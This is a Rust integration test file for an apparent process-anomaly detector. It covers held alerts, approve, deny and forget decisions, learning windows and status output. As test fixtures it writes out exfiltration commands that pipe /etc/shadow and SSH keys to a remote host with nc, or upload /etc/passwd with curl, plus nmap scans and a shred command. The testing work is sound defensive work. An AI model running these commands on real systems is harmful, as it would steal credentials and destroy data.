//! What people decide: taken up by a process that runs, without one, and exactly once.

use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant, SystemTime};

use rustix::fs::{CWD, FileType, Mode, mknodat};
use rustix::process::Signal;
use serde_json::Value;

use crate::recording::{DAY, Folder, Line, START, exfiltration, line, text, web_week};
use crate::support::{PROGRAM, Ran, Running, eventually, run, settle, start, watch};

/// A decision is taken up within this time by a process that runs.
const PROMISED: Duration = Duration::from_secs(6);

/// A command on a database.
fn anomalyctl(data: &Path, arguments: &[&str]) -> Command {
    let mut command = Command::new(PROGRAM);
    settle(&mut command);
    command.args(arguments).arg("--data").arg(data);
    command
}

fn told(data: &Path, arguments: &[&str]) -> Ran {
    run(&mut anomalyctl(data, arguments)).succeeded()
}

fn json(data: &Path, arguments: &[&str]) -> Value {
    let ran = told(data, &[arguments, &["--json"]].concat());
    serde_json::from_str(&ran.out).unwrap_or_else(|error| panic!("{error}: {}", ran.out))
}

/// A database that has learned a week of a web server, and has held one attack.
fn database(folder: &Folder) -> PathBuf {
    let data = folder.path("data");
    let attack = exfiltration("web").at(7.0 * DAY);
    let recording = folder.recording("week.jsonl", &[web_week("web"), vec![attack]].concat());
    run(watch().arg("--replay").arg(recording).arg("--data").arg(&data)).succeeded();
    data
}

/// A process that watches what a test tells it.
struct Fed {
    running: Running,
    pipe: File,
    pid: i64,
}

impl Fed {
    fn start(folder: &Folder, data: &Path, pipe: &str) -> Self {
        let path = folder.path(pipe);
        mknodat(CWD, &path, FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).expect("a pipe");
        let running = start(watch().args(["--json", "--replay"]).arg(&path).arg("--data").arg(data), b"");
        // Opening waits until the other end is open too.
        let pipe = File::options().write(true).open(&path).expect("a pipe");
        running.says("a workload is scored after");
        Self { running, pipe, pid: 0 }
    }

    /// Lets it see an execution, and tells what it says of it.
    fn sees(&mut self, line: Line) -> Value {
        self.pid += 1;
        let pid = 1_000_000 + self.pid;
        self.pipe.write_all(text(&[line.with("pid", pid)]).as_bytes()).expect("it reads");
        self.running.line(&format!("\"pid\":{pid},"))
    }

    fn end(self) -> Ran {
        let Self { running, pipe, .. } = self;
        drop(pipe);
        running.wait().succeeded()
    }
}

fn attack() -> Line {
    exfiltration("web").at(7.0 * DAY + 60.0)
}

fn score(line: &Value) -> f64 {
    line["score"].as_f64().unwrap_or_else(|| panic!("no score in {line}"))
}

fn only_id(data: &Path) -> String {
    let held = json(data, &["held"]);
    let [group] = &held.as_array().expect("an array")[..] else { panic!("{held}") };
    group["id"].as_str().expect("an id").to_owned()
}

#[test]
fn what_is_held_is_listed_as_it_alerted() {
    let folder = Folder::new();
    let data = database(&folder);
    let held = json(&data, &["held"]);
    let group = &held[0];
    assert_eq!(
        (&group["workload"], &group["parent"], &group["name"]),
        (&"web".into(), &"nginx".into(), &"sh".into())
    );
    assert_eq!((&group["seen"], &group["days"], &group["executions"]), (&1.into(), &1.into(), &1.into()));
    assert!(group["score"].as_f64() >= Some(0.85) && group["distance"].as_f64() >= Some(0.45), "{group}");
    assert!(group["reason"].as_str().is_some_and(|reason| reason.contains("parent nginx")), "{group}");
    let table = told(&data, &["held"]).out;
    let id = only_id(&data);
    assert!(
        table
            .lines()
            .nth(1)
            .is_some_and(|line| line.starts_with(&id[..9]) && line.contains("nginx > sh (33)")),
        "{table}"
    );
    assert!(!table.contains('\x1b'), "{table}");
    assert_eq!(told(&data, &["held", "--workload", "x*"]).out, "");
}

#[test]
fn a_running_watch_takes_up_an_approval_within_seconds() {
    let folder = Folder::new();
    let data = database(&folder);
    let mut fed = Fed::start(&folder, &data, "pipe");
    assert!(score(&fed.sees(attack())) >= 0.8);
    let given = Instant::now();
    let approved = json(&data, &["approve", &only_id(&data), "--why", "a drill"]);
    assert!(given.elapsed() < PROMISED + Duration::from_secs(2), "{:?}", given.elapsed());
    assert_eq!(
        (&approved["applied"], &approved["workloads"][0]["outcome"]),
        (&true.into(), &"1 approved".into())
    );
    let after = fed.sees(attack());
    assert_eq!((score(&after), &after["standing"]), (0.0, &"known".into()));
    let ran = fed.end();
    assert!(ran.err.contains("in workload web: 1 approved"), "{}", ran.err);
    assert_eq!(json(&data, &["held"]), Value::Array(Vec::new()));
}

#[test]
fn what_is_denied_stays_novel_and_can_be_taken_back() {
    let folder = Folder::new();
    let data = database(&folder);
    let mut fed = Fed::start(&folder, &data, "pipe");
    fed.sees(attack());
    told(&data, &["deny", "*--upload-file*", "--why", "incident 4711"]);
    for day in 7..20 {
        let seen = fed.sees(exfiltration("web").at(f64::from(day) * DAY + 600.0));
        assert_eq!((&seen["novel"], &seen["standing"]), (&true.into(), &"denied".into()), "{seen}");
    }
    fed.end();
    let id = json(&data, &["held", "--state", "denied"])[0]["id"].as_str().expect("an id").to_owned();
    told(&data, &["approve", &id, "--state", "denied"]);
    let mut again = Fed::start(&folder, &data, "again");
    assert_eq!(score(&again.sees(exfiltration("web").at(20.0 * DAY))), 0.0);
    again.end();
    let history = json(&data, &["held", "--history"]);
    let told: Vec<_> =
        history.as_array().expect("an array").iter().map(|line| (&line["action"], &line["why"])).collect();
    assert_eq!(told, [(&"deny".into(), &"incident 4711".into()), (&"approve".into(), &"".into())]);
}

#[test]
fn a_group_means_what_was_shown_of_it() {
    let folder = Folder::new();
    let data = database(&folder);
    let id = only_id(&data);
    told(&data, &["approve", &id]);
    let others = ["/etc/shadow", "/root/.ssh/id_rsa"].map(|file| {
        let args = ["sh", "-c", &format!("nc -w 3 203.0.113.77 4444 < {file}")].map(str::to_owned);
        exfiltration("web").with("args", args.to_vec()).at(7.5 * DAY)
    });
    let recording = folder.recording("others.jsonl", &others);
    run(watch().arg("--replay").arg(recording).arg("--data").arg(&data)).succeeded();
    let held = json(&data, &["held"]);
    assert_eq!((&held[0]["id"], &held[0]["executions"]), (&Value::from(id.as_str()), &2.into()), "{held}");

    // One more than was shown, one is denied, and what is held of it is no longer what was shown.
    let refused = |arguments: &[&str]| {
        let ran = run(&mut anomalyctl(&data, arguments));
        assert_eq!(ran.status.code(), Some(2), "{}", ran.err);
        ran.err
    };
    let said = refused(&["approve", &id, "--executions", "1"]);
    assert!(said.contains("2 executions") && said.contains("nothing is touched"), "{said}");
    assert_eq!(
        json(&data, &["deny", &id, "--executions", "2"])["executions"].as_array().map(Vec::len),
        Some(2)
    );
    // The same once more does not deny what is normal.
    let said = refused(&["deny", &id]);
    assert!(said.contains("2 denied") && said.contains("--state"), "{said}");
    let count = |state: &str| json(&data, &["held", "--state", state, "--each"]).as_array().map(Vec::len);
    assert_eq!(count("denied"), Some(2));
    let approved = json(&data, &["approve", &id, "--state", "denied", "--dry-run"]);
    assert_eq!(approved["executions"].as_array().map(Vec::len), Some(2), "{approved}");
}

#[test]
fn what_is_forgotten_is_as_new_as_before() {
    let folder = Folder::new();
    let data = database(&folder);
    let known = json(&data, &["status"])["workloads"][0]["known"].as_u64().expect("a number");
    let mut fed = Fed::start(&folder, &data, "pipe");
    let reopen = || line("web", "logrotate", &["nginx", "-s", "reopen"]).at(7.0 * DAY + 70.0);
    assert_eq!(score(&fed.sees(reopen())), 0.0);
    told(&data, &["forget", "nginx -s *"]);
    assert!(score(&fed.sees(reopen())) > 0.0);
    fed.end();
    let status = &json(&data, &["status"])["workloads"][0];
    assert!(status["known"].as_u64() <= Some(known), "{status}");
    assert!(told(&data, &["held", "--history"]).out.contains("1 forgotten"));
}

#[test]
fn within_a_window_a_deployment_is_learned() {
    let folder = Folder::new();
    let data = database(&folder);
    let mut fed = Fed::start(&folder, &data, "pipe");
    // Windows are on the clock of the executions' times, and this one is of now.
    let now =
        SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).expect("after 1970").as_secs_f64() - START;
    let deploy = |step: &str| line("web", "deploy", &["ansible-runner", "run", step, "--become"]);
    assert_eq!(fed.sees(deploy("/srv/one").at(now))["standing"], "held");
    told(&data, &["learn", "we?", "--for", "1h", "--why", "release 2"]);
    assert_eq!(fed.sees(deploy("/srv/two/x.yml").at(now + 30.0))["standing"], "learned");
    let status = told(&data, &["status"]).out;
    assert!(status.contains("everything is learned at once until"), "{status}");
    assert!(json(&data, &["status"])["workloads"][0]["window_until"].is_number());
    assert_eq!(fed.sees(line("web", "x", &["nmap", "-sS", "10.0.0.0/8"]).at(now + 60.0))["standing"], "held");
    assert_eq!(fed.sees(line("web", "rm", &["shred", "-u", "/etc/x"]).at(now + 7200.0))["standing"], "held");
    told(&data, &["learn", "web", "--for", "0s"]);
    assert!(json(&data, &["status"])["workloads"][0]["window_until"].is_null());
    fed.end();
}

#[test]
fn where_nobody_runs_it_is_applied_at_once() {
    let folder = Folder::new();
    let data = database(&folder);
    let id = only_id(&data);
    let ran = told(&data, &["approve", &id[..7], "--why", "checked\u{1b}[2J"]);
    assert!(ran.err.contains("workload web: 1 approved") && ran.out.contains(" held "), "{ran:?}");
    let history = told(&data, &["held", "--history"]).out;
    for part in ["approve", "web", "1 approved", "because: checked\\x1b[2J", &id[..7]] {
        assert!(history.contains(part), "no {part} in {history}");
    }
    assert_eq!(json(&data, &["held", "--history"])[0]["outcome"], "1 approved");
    run(&mut anomalyctl(&data, &["approve", "*--upload-file*"]))
        .failed_with(&["nothing that is held matches"]);
}

#[test]
fn a_dry_run_shows_what_it_would_touch_and_touches_nothing() {
    let folder = Folder::new();
    let data = database(&folder);
    let before = json(&data, &["held"]);
    for action in ["approve", "deny", "forget"] {
        let ran = told(&data, &[action, "*upload*", "--dry-run"]);
        assert!(
            ran.out.contains("sh -c curl -s --upload-file")
                && ran.err.contains("1 execution; nothing is changed"),
            "{ran:?}"
        );
    }
    let ran = told(&data, &["forget", "*", "--dry-run", "--workload", "web"]);
    assert!(ran.err.contains("7 executions; nothing"), "{ran:?}");
    assert_eq!(json(&data, &["held"]), before);
    assert_eq!(json(&data, &["held", "--history"]), Value::Array(Vec::new()));
}

#[test]
fn two_people_at_once_are_both_heard() {
    let folder = Folder::new();
    let data = database(&folder);
    let mut fed = Fed::start(&folder, &data, "pipe");
    for n in 0..4 {
        let tool = format!("tool{n}");
        fed.sees(
            line("web", "nginx", &[&tool, "--mode", &format!("/opt/vendor{n}/data"), "word"]).at(7.0 * DAY),
        );
    }
    eventually("all is saved", || json(&data, &["held"]).as_array().is_some_and(|held| held.len() == 5));
    let people: Vec<_> = (0..4)
        .map(|n| start(&mut anomalyctl(&data, &["approve", &format!("tool{n} *"), "--json"]), b""))
        .collect();
    for person in people {
        let ran = person.wait().succeeded();
        let approved: Value = serde_json::from_str(&ran.out).expect("JSON");
        assert_eq!(approved["workloads"][0]["outcome"], "1 approved", "{}", ran.err);
    }
    for n in 0..4 {
        let tool = format!("tool{n}");
        let seen = fed.sees(
            line("web", "nginx", &[&tool, "--mode", &format!("/opt/vendor{n}/data"), "word"]).at(7.0 * DAY),
        );
        assert_eq!(score(&seen), 0.0, "{seen}");
    }
    fed.end();
    assert_eq!(json(&data, &["held", "--history"]).as_array().map(Vec::len), Some(4));
}

#[test]
fn killed_before_it_applied_it_is_applied_once_at_the_next_start() {
    let folder = Folder::new();
    let data = database(&folder);
    let id = only_id(&data);
    let fed = Fed::start(&folder, &data, "pipe");
    // It can take nothing up while it is stopped, and does not come back from that.
    fed.running.signal(Signal::STOP);
    let ran = told(&data, &["deny", &id, "--no-wait"]);
    assert!(ran.err.contains("is written down"), "{ran:?}");
    assert!(json(&data, &["held", "--history"])[0]["outcome"].is_null());
    let status = told(&data, &["status"]).out;
    assert!(
        status.contains("1 decision to be taken up") && status.contains("written by process"),
        "{status}"
    );
    fed.running.signal(Signal::KILL);
    drop(fed.pipe);
    assert_eq!(fed.running.wait().code(), None);

    let mut next = Fed::start(&folder, &data, "next");
    let seen = next.sees(attack());
    assert_eq!(seen["standing"], "denied", "before the first execution is scored");
    eventually("it is settled", || json(&data, &["held", "--history"])[0]["outcome"] == "1 denied");
    next.end();
    let history = json(&data, &["held", "--history"]);
    assert_eq!(history.as_array().map(Vec::len), Some(1), "{history}");
    assert_eq!(json(&data, &["status"])["workloads"][0]["denied"], 1);
}

#[test]
fn an_explanation_has_both_sides_and_every_number() {
    let folder = Folder::new();
    let data = database(&folder);
    let id = only_id(&data);
    let explained = json(&data, &["explain", &id]);
    assert_eq!((&explained["state"], &explained["novel"]), (&"held".into(), &true.into()), "{explained}");
    let number = |name: &str| explained[name].as_f64().unwrap_or_else(|| panic!("no {name} in {explained}"));
    let distance = 0.7 * (1.0 - number("cosine")) + 0.3 * number("unknown");
    assert!((number("distance") - distance).abs() < 2e-4, "{explained}");
    let score =
        (distance / 0.1).min(1.0) / (1.0 + 0.18 * (0.8 * number("rate") + 0.1 * number("repeats")).sqrt());
    assert!((number("score") - score).abs() < 2e-4, "{explained}");

    let text = told(&data, &["explain", &id]).out;
    for part in [
        "nginx > sh (33)",
        "new    parent nginx",
        "shared",
        "cosine",
        "has beside: ",
        "sqrt(0.8 x",
        "novel: the threshold is",
    ] {
        assert!(text.contains(part), "no {part:?} in\n{text}");
    }
    // The same by its command line, which was seen.
    let script = "sh -c 'curl -s --upload-file /etc/passwd http://203.0.113.9/drop'";
    assert_eq!(json(&data, &["explain", script]), explained);
    // One that nobody ran, and one that is known.
    let other = json(&data, &["explain", "--parent", "nginx", "--uid", "33", "sh -c 'id'"]);
    assert!(other["id"].is_null() && other["score"].as_f64() > Some(0.0), "{other}");
    let mut command = Command::new(PROGRAM);
    settle(&mut command);
    command.args(["explain", "--data"]).arg(&data).args(["--", "nginx", "-s", "reopen"]);
    let known = run(&mut command).succeeded().out;
    assert!(known.contains("learned: exactly this has run before"), "{known}");
    run(&mut anomalyctl(&data, &["explain", "id", "--workload", "no"]))
        .failed_with(&["no workload is called no", "web"]);
}

#[test]
fn the_status_tells_who_learns_what_it_saw_and_what_is_missing() {
    let folder = Folder::new();
    let data = folder.path("data");
    let mut lines = web_week("web");
    lines.extend([
        line("young\u{1b}[31m", "sh", &["nmap", "-sS", "10.0.0.0/8"]).at(0.0),
        line("young\u{1b}[31m", "sh", &["ls"]).at(1.0),
    ]);
    let recording = folder.recording("r.jsonl", &lines);
    run(watch().arg("--replay").arg(recording).arg("--data").arg(&data)).succeeded();
    let text = told(&data, &["status"]).out;
    for part in [
        "nobody writes it now",
        "settled",
        "learning",
        "no scores yet: 2/50 executions, 1/30s",
        "warm-up saw nmap",
    ] {
        assert!(text.contains(part), "no {part:?} in\n{text}");
    }
    assert!(!text.contains('\x1b') && text.contains("young\\x1b[31m"), "{text}");
    let status = json(&data, &["status"]);
    let young = &status["workloads"][1];
    assert_eq!(
        (&young["warnings"][0], &young["learning"]["executions_needed"]),
        (&"nmap".into(), &50.into())
    );
    assert_eq!(
        (&status["workloads"][0]["known"], &status["written"]),
        (&6.into(), &false.into()),
        "{status}"
    );
}

#[test]
fn without_a_database_or_with_somebody_elses_it_is_one_sentence() {
    let folder = Folder::new();
    let absent = folder.path("absent");
    let foreign = folder.path("foreign");
    std::fs::create_dir(&foreign)
        .and_then(|()| std::fs::write(foreign.join("diary"), ""))
        .expect("a directory");
    for arguments in [
        &["held"][..],
        &["status"],
        &["approve", "x"],
        &["deny", "x"],
        &["forget", "x"],
        &["learn", "x", "--for", "1h"],
        &["explain", "x"],
    ] {
        for data in [&absent, &foreign] {
            let ran =
                run(&mut anomalyctl(data, arguments)).failed_with(&["cannot be used as a database", ";"]);
            assert_eq!((ran.err.lines().count(), ran.out.as_str()), (1, ""), "{arguments:?} {ran:?}");
        }
    }
    assert!(!absent.exists());
    assert_eq!(std::fs::read_dir(&foreign).map(Iterator::count).ok(), Some(1));
}

#[test]
fn thresholds_of_some_workloads_differ() {
    let folder = Folder::new();
    let lines: Vec<_> = ["web", "ci-build"].into_iter().flat_map(web_week).chain([attack()]).collect();
    let recording = folder.recording("r.jsonl", &lines);
    let mut command = watch();
    command.arg("--replay").arg(recording).args(["--json", "--threshold", "0.6", "--threshold", "ci*=0.95"]);
    let lines = run(&mut command).succeeded().json();
    let threshold = |workload: &str| {
        lines.iter().find(|line| line["workload"] == workload).and_then(|line| line["threshold"].as_f64())
    };
    assert_eq!((threshold("web"), threshold("ci-build")), (Some(0.6), Some(0.95)));
}

#[test]
fn on_a_terminal_it_fits() {
    let folder = Folder::new();
    let data = database(&folder);
    for arguments in ["held", "status", "explain 'sh -c id'", "held --state all --each"] {
        for columns in [60, 100] {
            let mut command = Command::new("script");
            settle(&mut command);
            let inner =
                format!("stty cols {columns} rows 24; '{PROGRAM}' {arguments} --data '{}'", data.display());
            command.args(["--quiet", "--return", "--command", &inner, "/dev/null"]).env("NO_COLOR", "1");
            let drawn = run(&mut command).succeeded().out;
            assert!(drawn.lines().count() > 2, "{drawn}");
            assert!(
                drawn.lines().all(|line| line.trim_end().chars().count() <= columns),
                "{columns}:\n{drawn}"
            );
        }
    }
}
